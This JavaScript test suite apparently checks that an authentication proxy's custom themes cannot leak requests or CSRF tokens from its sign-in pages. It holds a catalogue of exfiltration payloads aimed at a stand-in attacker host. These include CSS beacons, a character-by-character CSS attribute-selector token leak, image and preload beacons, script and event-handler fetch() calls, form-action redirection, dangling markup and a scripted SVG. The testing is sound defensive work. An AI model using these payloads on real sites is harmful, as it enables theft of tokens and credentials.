// A hostile theme in Chromium sends nothing out (R20): what the guard lets through is held by the content policy, and
// what no policy holds the guard refuses.
import assert from "node:assert/strict";
import { mkdir, writeFile } from "node:fs/promises";
import { dirname } from "node:path";
import { submit } from "./harness/browser.mjs";
import { Evil } from "./harness/evil.mjs";
import { note, suite } from "./harness/suite.mjs";
import { pause, until } from "./harness/wait.mjs";
import { PASSWORD, World } from "./harness/world.mjs";

const WIKI = "https://wiki.example.com/";
const SETTLED = 700;
const ALPHABET = [..."ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"];

const apps = (world) => `
app wiki "Wiki" {
    proxy "${WIKI}" to="${world.echo.url}"
    access { allow group:users }
}
`;

/** Style sheet lines that ask `evil`, each under its own name. */
const styles = (evil) => `
@import url("${evil}/css-import");
@font-face { font-family: hostile; src: url("${evil}/css-font"); }
body { font-family: hostile, serif; background: url("${evil}/css-url"); cursor: url("${evil}/css-cursor"), auto; }
h1 { border-image: url("${evil}/css-border") 1; }
h1::before { content: url("${evil}/css-content"); }
main { display: list-item; list-style-image: url("${evil}/css-list"); mask-image: url("${evil}/css-mask"); }
form { background-image: image-set("${evil}/css-image-set" 1x); shape-outside: url("${evil}/css-shape"); float: left; }
input:focus { background: url("${evil}/css-focus"); }
${ALPHABET.map((letter) => `form:has(input[name=csrf][value^="${letter}"]) button { background: url("${evil}/css-attribute?${letter}"); }`).join("\n")}
`;
const STYLE_WAYS = ["css-import", "css-font", "css-url", "css-cursor", "css-border", "css-content", "css-list", "css-mask", "css-image-set", "css-shape", "css-focus", "css-attribute"];

/** Markup that asks `evil` as soon as it is seen. */
const PASSIVE = {
  "img": (evil) => `<img src="${evil}/img">`,
  "srcset": (evil) => `<img srcset="${evil}/srcset 1x">`,
  "background": (evil) => `<table background="${evil}/background"><tr><td>x</td></tr></table>`,
  "input-image": (evil) => `<input type="image" src="${evil}/input-image">`,
  "svg-image": (evil) => `<svg width="9" height="9"><image href="${evil}/svg-image" width="9" height="9"/></svg>`,
  "srcdoc": (evil) => `<iframe srcdoc="<img src='${evil}/srcdoc'>"></iframe>`,
  "object": (evil) => `<object data="${evil}/object"></object>`,
  "embed": (evil) => `<embed src="${evil}/embed">`,
  "video": (evil) => `<video src="${evil}/video" preload="auto"></video>`,
  "poster": (evil) => `<video poster="${evil}/poster"></video>`,
  "stylesheet": (evil) => `<link rel="stylesheet" href="${evil}/stylesheet">`,
  "preload": (evil) => `<link rel="preload" as="image" href="${evil}/preload">`,
  "imagesrcset": (evil) => `<link rel="preload" as="image" imagesrcset="${evil}/imagesrcset 1x">`,
  "modulepreload": (evil) => `<link rel="modulepreload" href="${evil}/modulepreload">`,
  "prefetch": (evil) => `<link rel="prefetch" href="${evil}/prefetch">`,
  "style-attribute": (evil) => `<p style="background:url('${evil}/style-attribute')">x</p>`,
  "script": (evil) => `<script>fetch("${evil}/script", { mode: "no-cors" })</script>`,
  "script-src": (evil) => `<script src="${evil}/script-src"></script>`,
  "own-script": () => `<script src="/own-script.js"></script>`,
  "handler": (evil) => `<img src="/nothing" onerror="fetch('${evil}/handler', { mode: 'no-cors' })">`,
  "svg-handler": (evil) => `<svg onload="fetch('${evil}/svg-handler', { mode: 'no-cors' })"></svg>`,
};

const click = (page) => page.click("#act", { noWaitAfter: true });

/** Markup that needs a page of its own: it navigates, connects ahead of the policy, or waits for the person. */
const ALONE = {
  "iframe": [(evil) => `<iframe src="${evil}/iframe"></iframe>`],
  "meta-refresh": [(evil) => `<meta http-equiv="refresh" content="0;url=${evil}/meta-refresh">`],
  "base": [(evil) => `<base href="${evil}/base/"><img src="x">`],
  "form-action": [(evil) => `<form method="post" action="${evil}/form-action"><input name="csrf" value="t"><button id="act">x</button></form>`, click],
  "form-get": [(evil) => `<form action="${evil}/form-get"><input name="csrf" value="t"><button id="act">x</button></form>`, click],
  "end-tag": [(evil) => `</ a="><form method=post action=${evil}/end-tag><button id=act>x</button></form>">`, click],
  "formaction": [(evil) => `<form method="post" action="/x"><button id="act" formaction="${evil}/formaction">x</button></form>`, click],
  "ping": [(evil) => `<a id="act" href="#x" ping="${evil}/ping">x</a>`, click],
  "javascript-link": [(evil) => `<a id="act" href="javascript:void fetch('${evil}/javascript-link', { mode: 'no-cors' })">x</a>`, click],
};

/** What no test can see go out: a browser under test does not look ahead. */
const UNSEEN = {
  "preconnect": (evil) => `<link rel="preconnect" href="${evil}">`,
  "dns-prefetch": (evil) => `<link rel="dns-prefetch" href="${evil}">`,
  "referrer": () => `<meta name="referrer" content="unsafe-url">`,
  "referrer-spelt": () => `<meta name="&#114;eferrer" content="unsafe-url">`,
};

/** Followed by nobody but a person, and closed by the policy. */
const NOT_REFUSED = ["javascript-link"];

const page = (evil, markup) => `<!doctype html><html><head><title>hostile</title></head><body><main><h1>x</h1>${markup}</main></body></html>`;

/** Opens a page of the application with a policy, acts, and says on which ways something went out. */
async function leaks(world, markup, policy, act, expected = []) {
  world.evil.forget();
  world.echo.page("/hostile", page(world.evil.url, markup), policy ? { "content-security-policy": policy } : {});
  const person = await world.person();
  await person.goto(`${world.echo.url}/hostile`, { waitUntil: "commit" });
  await act?.(person);
  await until("what is expected", () => expected.every((way) => world.evil.ways().has(way)), { limit: expected.length ? 8_000 : 0 }).catch(() => {});
  await pause(SETTLED);
  await person.context().close();
  return world.evil.connections ? [...world.evil.ways(), ...(world.evil.asked.length ? [] : ["a connection"])] : [];
}

const PASSIVE_PAGE = (evil) => `<style>${styles(evil)}</style>
<form><input type="hidden" name="csrf" value="Token"><input name="username" autofocus><button type="button">x</button></form>${Object.values(PASSIVE).map((markup) => markup(evil)).join("\n")}`;

/** The policies that real pages of the sign-in came with. */
async function policies(world) {
  const visitor = world.visitor();
  const first = await visitor.open(WIKI);
  await visitor.submit({ username: "bob" });
  const both = [first, visitor.page].map((answer) => answer.header("content-security-policy"));
  assert.ok(both.every((policy) => policy?.startsWith("default-src 'none'; ")), both.join("\n"));
  return [...new Set(both)];
}

async function writeTheme(world, files) {
  for (const [name, text] of Object.entries(files)) {
    const path = world.scratch.path("custom-templates", name);
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, text);
  }
}

/** Everything that the guard lets through. */
const hostileNote = (name, evil) => `{% extends "default/${name}" %}
{% block below %}{% set form = form_open("/x") %}<p id="hostile" title='{{ form | upper }}'>{{ form }}</form>{{ debug() }}</p>
<img src="{{ asset('themes/hostile.svg') }}" alt=""><img src="/assets/themes/hostile.svg" alt="">
<a id="evil" href='${evil}/link?{{ form | replace("<", "-") }}'>x</a><a id="script" href="javascript:void fetch('${evil}/javascript')">x</a>
{% endblock %}`;

const hostileTheme = (evil) => ({
  "identify.html": hostileNote("identify.html", evil),
  "password.html": hostileNote("password.html", evil),
  "themes/hostile.css": `${styles(evil)}\n#hostile { border-left: 7px solid rgb(1, 2, 3); }`,
  "themes/hostile.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><style>@import url("${evil}/svg-import"); rect { fill: url("${evil}/svg-fill#a") }</style><image xlink:href="${evil}/svg-image" width="9" height="9"/><rect width="9" height="9"/><script>fetch("${evil}/svg-script")</script></svg>`,
});

async function start() {
  const evil = await Evil.start();
  const world = await World.start("theme", { apps, before: (world) => writeTheme(world, hostileTheme(evil.url)) });
  world.evil = evil;
  const stop = world.stop.bind(world);
  world.stop = async () => {
    await stop();
    await evil.stop();
  };
  world.echo.page("/own-script.js", `fetch("${evil.url}/own-script", { mode: "no-cors" })`, { "content-type": "text/javascript" });
  return world;
}

suite("theme", start, (test) => {
  test("a hostile theme gets neither a request nor a token out of the sign-in", async (world) => {
    await world.hasPassword("bob");
    world.evil.forget();
    const person = await world.person();
    await person.goto(WIKI);
    for (const [field, value] of [["username", "bob"], ["password", PASSWORD]]) {
      const border = await person.locator("#hostile").evaluate((each) => getComputedStyle(each).borderLeftColor);
      assert.equal(border, "rgb(1, 2, 3)", "the theme is in force");
      await person.fill(`input[name=${field}]`, value);
      await person.click("#script", { noWaitAfter: true });
      await pause(SETTLED);
      const tokens = await person.locator("form:has(button) input[name=csrf]").evaluateAll((all) => all.map((each) => each.value));
      assert.ok(tokens.length === 1 && tokens[0].length > 20, JSON.stringify(tokens));
      const elsewhere = (await person.content()).replaceAll(`name="csrf" value="${tokens[0]}"`, "");
      assert.ok(!elsewhere.toLowerCase().includes(tokens[0].toLowerCase()), "the token stands in its fields alone");
      await submit(person, person.locator("form:has(button)"));
    }
    assert.equal(person.url(), WIKI);
    assert.deepEqual([world.evil.connections, world.evil.asked], [0, []]);
    await person.context().close();
  });

  test("a theme's drawing that is opened by itself sends nothing", async (world) => {
    world.evil.forget();
    const person = await world.person();
    const answer = await person.goto("https://auth.example.com/assets/themes/hostile.svg");
    assert.equal(answer.status(), 200);
    await pause(SETTLED);
    assert.deepEqual([world.evil.connections, world.evil.asked], [0, []]);
    await person.context().close();
  });

  test("the policy of the sign-in holds everything but what the guard refuses", async (world) => {
    const ways = [...Object.keys(PASSIVE), ...STYLE_WAYS];
    const open = await leaks(world, PASSIVE_PAGE(world.evil.url), null, null, ways);
    assert.deepEqual(ways.filter((way) => !open.includes(way)), [], "without a policy every way is open, or this test shows nothing");
    const held = new Set([...ways, ...Object.keys(ALONE)]);
    for (const [name, [markup, act]] of Object.entries(ALONE)) {
      assert.notDeepEqual(await leaks(world, markup(world.evil.url), null, act, [name]), [], `without a policy ${name} is open`);
    }
    for (const policy of await policies(world)) {
      assert.deepEqual(await leaks(world, PASSIVE_PAGE(world.evil.url), policy), [], policy);
      for (const [name, [markup, act]] of Object.entries(ALONE)) {
        const out = await leaks(world, markup(world.evil.url), policy, act);
        if (out.length) held.delete(name);
        assert.ok(!out.length || !NOT_REFUSED.includes(name), `${name} goes out under ${policy}`);
      }
    }
    note(`left to the guard: ${Object.keys(ALONE).filter((name) => !held.has(name)).join(", ")}`);
  });

  test("every way is refused when the theme is loaded", async (world) => {
    const ways = { ...PASSIVE, ...UNSEEN, ...Object.fromEntries(Object.entries(ALONE).map(([name, [markup]]) => [name, markup])) };
    const todo = Object.entries(ways).filter(([name]) => !NOT_REFUSED.includes(name));
    const pages = ["denied", "error", "identify", "loop", "password", "portal", "restarted", "set-password", "sign-out", "signed-out", "wrong-address"];
    while (todo.length) {
      const part = todo.splice(0, pages.length).map(([name, markup], at) => [name, `${pages[at]}.html`, markup(world.evil.url)]);
      const theme = Object.fromEntries(part.map(([, file, markup]) => [file, `{% extends "default/${file}" %}{% block head %}${markup}{% endblock %}`]));
      const other = await World.start("refused", { apps, proxy: false, before: (world) => writeTheme(world, theme) });
      const told = other.doorward.program.output;
      await other.stop();
      const passed = part.filter(([, file]) => !told.includes(`"error":"${file}: `) && !told.includes(`${file}:`));
      assert.deepEqual(passed.map(([name]) => name), [], told.slice(0, 2000));
    }
  });
});
